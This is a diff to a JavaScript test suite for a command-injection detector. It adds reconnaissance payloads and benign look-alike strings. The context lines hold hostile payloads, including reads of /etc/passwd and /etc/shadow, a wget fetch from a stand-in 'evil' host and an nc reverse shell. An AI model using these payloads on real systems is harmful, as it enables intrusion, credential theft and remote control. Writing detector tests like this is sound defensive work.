@@ -180,6 +180,8 @@ describe('command injection', () => {
       '; cat /etc/passwd', '| id', '|id', '127.0.0.1; ls -la', '127.0.0.1 && whoami', '`id`', '$(whoami)', 'x;wget http://evil/x.sh',
       '() { :; }; /bin/bash -c "id"', ';${IFS}cat${IFS}/etc/passwd', '1|sleep 5', '; /bin/cat /etc/shadow', "a;w'h'oami", '& ping -c 3 10.0.0.1', 'x\nid',
       '||nc -e /bin/sh 1.2.3.4 4444',
+      // Reconnaissance: commands no prose names, and word commands with an option or a path.
+      'x;getent passwd', 'x;lsb_release -a', 'x;tac /etc/passwd', 'x;nl /etc/passwd', 'x;df -h', 'x;free -m', 'x;ss -tulpn', 'x;arp -a', 'x;route -n',
     ];
     assert.deepEqual(misses(detectCommandInjection, attacks), []);
   });
@@ -189,6 +191,7 @@ describe('command injection', () => {
       'Tom & Jerry', 'dogs; cat lovers', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
       'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36', 'R&D; date night',
       'see you; echo chamber', '$(document).ready(fn)', 'cats | dogs', 'Q&A', 'text/html; charset=utf-8', 'a=1&b=2', 'line one\ncurl is a tool',
+      'price: 0; free 5 items', 'first; last', 'see route 66; route 66 trip', 'langs: en;nl;de', 'a; ip 10.0.0.1 port 80', 'free beer; free -- no charge', 'home | free shipping | returns',
     ];
     assert.deepEqual(hits(detectCommandInjection, benign), []);
   });
